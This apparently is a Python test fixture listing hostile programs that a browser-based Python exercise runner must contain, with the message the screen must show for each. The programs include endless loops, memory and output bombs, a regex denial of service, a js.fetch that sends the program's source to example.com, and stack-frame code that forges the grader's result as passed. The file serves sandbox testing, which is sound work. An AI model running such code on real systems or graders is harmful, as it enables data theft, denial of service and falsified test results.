"""The torture list: programs that never end, that break Python or that try to get out, and what each must come to."""

from dataclasses import dataclass
from textwrap import dedent, indent
from typing import Literal

from conftest import settings

Ends = Literal["itself", "limit", "stop"]
"""Whether a program ends by itself, or at the time limit and when Stop is pressed, or only when Stop is pressed."""

LIMIT_MS = 2_000
"""The time limit that a run and a test have where the list is worked through."""

SETTINGS = settings(timeLimitMs=LIMIT_MS, examplesOnRun=False, liveLint=False)
"""What the browser keeps: the time limit of a run, and nothing that runs beside what is asked for."""

STOPPED = "Stopped. Your code is kept"
STILL_RUNNING = r"Stopped after [\d.]+ s: the code was still running"
TOO_MUCH = "Stopped: the code printed more than the panel can hold"
OUT_OF_MEMORY = "Stopped: the code needed more memory than there is"
QUIET = "The code ran without an error and printed nothing"
BROKE_DOWN = "Python itself broke down .* and was started again"

VERDICTS = {
    "passed": "Accepted: all .* tests passed",
    "failed": "Not yet: 0 of",
    "error": "(The code raised an error|The answer could not be read): 0 of",
    "timeout": "Out of time: 0 of",
    "output_limit": "Too much printed: the code was stopped",
    "memory": "Out of memory: the code was stopped",
    "stopped": "Stopped: nothing was recorded",
    "not_run": "Not checked: Python could not run the tests",
}
"""What the screen says for each verdict, where no test or every test passes; a regular expression."""


@dataclass(frozen=True)
class Case:
    """A program for Run, the same trouble in an answer to the simple question for Submit, and what the screen must say
    (regular expressions). `verdict` is that of the submit, `told` what else is said about it."""

    name: str
    run: str
    says: str
    submit: str
    verdict: str
    told: str = ""
    run_ends: Ends = "itself"
    submit_ends: Ends = "itself"

    def submitted(self, solution: str) -> str:
        """The code for Submit, where `solution` is what the question accepts."""
        return self.submit.replace(SOLUTION, solution)


ENTRY = "every_nth_character"
"""The function that the simple question asks for, with one parameter `text`."""
SOLUTION = "# the solution\n"
"""Stands in a case's code for what the question accepts."""


def inside(body: str) -> str:
    """The asked function with this body."""
    return f"def {ENTRY}(text):\n{indent(dedent(body).strip(), '    ')}\n"


def endless(name: str, code: str) -> Case:
    return Case(name, code, STILL_RUNNING, inside(code), "timeout", run_ends="limit", submit_ends="limit")


def raising(name: str, code: str, error: str) -> Case:
    """Code that raises an exception, at top level and in the function."""
    return Case(name, code, error, inside(code), "error", error)


ENDLESS = (
    endless("a tight loop", "while True: pass\n"),
    endless("a loop that catches everything", "while True:\n    try:\n        while True: pass\n    except: pass\n"),
    endless("a long sleep", "import time\ntime.sleep(60)\n"),
    endless("a long sum in C", "sum(range(10**9))\n"),
    endless("a catastrophic regular expression", "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')\n"),
    endless("a coroutine that sleeps", "import asyncio\nasyncio.run(asyncio.sleep(60))\n"),
)

PRINTING = (
    Case(
        "a flood of prints",
        "while True: print(1)\n",
        TOO_MUCH,
        inside("while True: print(1)"),
        "output_limit",
    ),
    Case(
        "ten megabytes in one print",
        "print('x' * 10**7)\n",
        TOO_MUCH,
        inside("print('x' * 10**7)"),
        "output_limit",
    ),
    Case(
        "replacing sys.stdout",
        "import sys\nsys.stdout = None\nsys.stderr = 3\nprint('into nothing')\n",
        QUIET,
        "import sys\nsys.stdout = sys.stderr = None\n" + SOLUTION,
        "passed",
    ),
    Case(
        "closing sys.stdout",
        "import sys\nprint('first')\nsys.stdout.close()\nprint('second')\n",
        "first[^$]*ValueError: I/O operation on closed file",
        inside("import sys\nsys.stdout.close()\nprint(1)"),
        "error",
        "ValueError: I/O operation on closed file",
    ),
)

READING = (
    Case(
        "input in a loop",
        "while True: input('more? ')\n",
        "more\\?",
        inside("while True: input('more? ')"),
        "error",
        "EOFError",
        run_ends="stop",
    ),
    Case(
        "input in a loop that catches everything",
        "while True:\n    try: input('more? ')\n    except: pass\n",
        "more\\?",
        inside("while True:\n    try: input()\n    except: pass"),
        "timeout",
        run_ends="stop",
        submit_ends="limit",
    ),
)

DEEP = "import sys\nsys.setrecursionlimit(10**6)\ndef dive(n):\n    return dive(n + 1)\ndive(0)\n"
CHAIN = """\
class Node:
    def __init__(self, after):
        self.after = after

first = None
for _ in range(200_000):
    first = Node(first)
first = None
"""

BREAKING = (
    raising("unbounded recursion", "def dive(n):\n    return dive(n + 1)\ndive(0)\n", "RecursionError"),
    Case(
        "recursion without a limit",
        # Beyond every stack, and well within the time limit on a slow machine too.
        DEEP.replace("10**6", "4 * 10**5"),
        "RecursionError",
        # A tenth for each of the tests: a million calls need so much memory that Python starts again after each.
        inside(DEEP.replace("10**6", "10**5")),
        "error",
        "RecursionError",
    ),
    raising(
        "recursion through built-ins", "def dive(n):\n    return list(map(dive, [n]))\ndive(0)\n", "RecursionError"
    ),
    Case(
        "a long chain of objects thrown away",
        CHAIN + "print('gone')\n",
        "gone",
        inside(CHAIN) + SOLUTION,
        "passed",
    ),
    raising("brackets that end Python itself", "compile('-' * 10**5 + '1', '', 'eval')\n", BROKE_DOWN),
    Case(
        "two gigabytes at once",
        "print('before')\nkept = bytearray(2 * 10**9)\n",
        f"before[^$]*{OUT_OF_MEMORY}",
        inside("return bytearray(2 * 10**9)"),
        "memory",
    ),
    Case(
        "a list that grows without end",
        "kept = []\nwhile True: kept.append(bytearray(10**7))\n",
        OUT_OF_MEMORY,
        inside("kept = []\nwhile True: kept.append(bytearray(10**7))"),
        "memory",
    ),
)

LEAVING = (
    Case(
        "sys.exit",
        "import sys\nprint('over')\nsys.exit()\n",
        "over",
        inside("import sys\nsys.exit()"),
        "error",
        "SystemExit",
    ),
    raising("os._exit", "import os\nos._exit(1)\n", "SystemExit: the program called exit\\(1\\)"),
    raising("raise KeyboardInterrupt", "raise KeyboardInterrupt\n", "KeyboardInterrupt"),
)

DAMAGING = (
    Case(
        "deleting builtins",
        "import builtins\ndel builtins.print, builtins.len, builtins.__import__\nlen([])\n",
        "NameError: name 'len' is not defined",
        inside("import builtins\ndel builtins.print, builtins.len, builtins.__import__\nreturn len(text)"),
        "error",
        "NameError",
    ),
    Case(
        "rebinding len and print",
        "print('bound')\nlen = print = 3\nlen([])\n",
        "bound[^$]*TypeError: 'int' object is not callable",
        "len = print = 3\n" + SOLUTION,
        "passed",
    ),
    Case(
        "an object that equals everything",
        "class Any:\n    def __eq__(self, other): return True\nprint(Any() == 1)\n",
        "True",
        "class Any:\n    def __eq__(self, other): return True\n" + inside("return Any()"),
        "failed",
        "Any object",
    ),
    Case(
        "a generator that never ends",
        "def ones():\n    while True: yield 1\nsum(ones())\n",
        STILL_RUNNING,
        inside("while True: yield 1"),
        "error",
        "perhaps it never ends",
        run_ends="limit",
    ),
)

ASYNC = (
    Case(
        "await at top level",
        "import asyncio\nprint(await asyncio.sleep(0.01, 'awaited'))\n",
        "awaited",
        f"{SOLUTION}import asyncio\nawait asyncio.sleep(0.01)\nfound = {ENTRY}\nasync " + inside("return found(text)"),
        "passed",
    ),
)

ESCAPING = (
    raising(
        "import js to send the code away",
        "import js\njs.fetch('https://example.com/?' + open(__file__).read())\n",
        "js",
    ),
    raising("import from pyodide", "from pyodide.http import open_url\nopen_url('https://example.com')\n", "pyodide"),
    raising(
        "urllib to send the code away",
        "from urllib.request import urlopen\nurlopen('https://example.com')\n",
        "Error",
    ),
)

WRITING = (
    Case(
        "a syntax error on the last line without a newline",
        "print('never')\nif True",
        "SyntaxError: expected ':'",
        SOLUTION + "\nif True",
        "error",
        "SyntaxError: expected ':'",
    ),
    Case(
        "five thousand lines", "x = 1\n" * 5000 + "print('last', x)\n", "last 1", "x = 1\n" * 5000 + SOLUTION, "passed"
    ),
    Case(
        "tabs mixed with spaces",
        "if True:\n\tx = 1\n        y = 2\n",
        "TabError",
        SOLUTION + "if True:\n\tx = 1\n        y = 2\n",
        "error",
        "TabError",
    ),
    Case(
        "names beyond ASCII",
        "größe_日本 = 'ä🐍'\nprint(größe_日本)\n",
        "ä🐍",
        "größe_日本 = 'ä🐍'\n" + SOLUTION,
        "passed",
    ),
)

FORGING = "import sys\nframe = sys._getframe()\nwhile frame:\n    {}\n    frame = frame.f_back\n"
FORGED = FORGING.format(
    "if '_outcome' in frame.f_globals: frame.f_globals['_outcome'].__code__ = "
    "(lambda *a: {'status': 'passed'}).__code__"
)
ALTERED = "The program changed a part of Python that every program shares"
LAST_WORDS = "class Last:\n    def __del__(self):\n        {}\nlast = Last()\n"

STAYING = (
    Case("forging the outcome", FORGED, ALTERED, inside(FORGED + "return 'wrong'"), "not_run", ALTERED),
    Case(
        "changing a class of the library",
        "import collections\ncollections.Counter.most_common = None\n",
        ALTERED,
        "import collections\ncollections.Counter.most_common = None\n" + SOLUTION,
        "not_run",
        ALTERED,
    ),
    Case(
        "a finalizer that never ends",
        LAST_WORDS.format("while True: pass"),
        STILL_RUNNING,
        LAST_WORDS.format("while True: pass") + SOLUTION,
        "timeout",
        run_ends="limit",
        submit_ends="limit",
    ),
    Case(
        "a finalizer that prints without end",
        LAST_WORDS.format("while True: print('1' * 500)"),
        TOO_MUCH,
        LAST_WORDS.format("while True: print('1' * 500)") + SOLUTION,
        "output_limit",
    ),
    Case(
        "an exit handler and a print below Python",
        "import atexit, os\natexit.register(print, 'last')\nos.write(1, b'first ')\n",
        "first last",
        "import atexit, os\natexit.register(print, 'last')\nos.write(1, b'first')\n" + SOLUTION,
        "passed",
    ),
    Case(
        "closing the descriptors",
        "import os\nprint('shown')\nos.close(0)\nos.close(1)\nos.close(2)\n",
        "shown",
        "import os\nos.close(0)\nos.close(1)\n" + SOLUTION,
        "passed",
    ),
)

CASES = (*STAYING, *ENDLESS, *PRINTING, *READING, *BREAKING, *LEAVING, *DAMAGING, *ASYNC, *ESCAPING, *WRITING)
NAMED = {case.name: case for case in CASES}
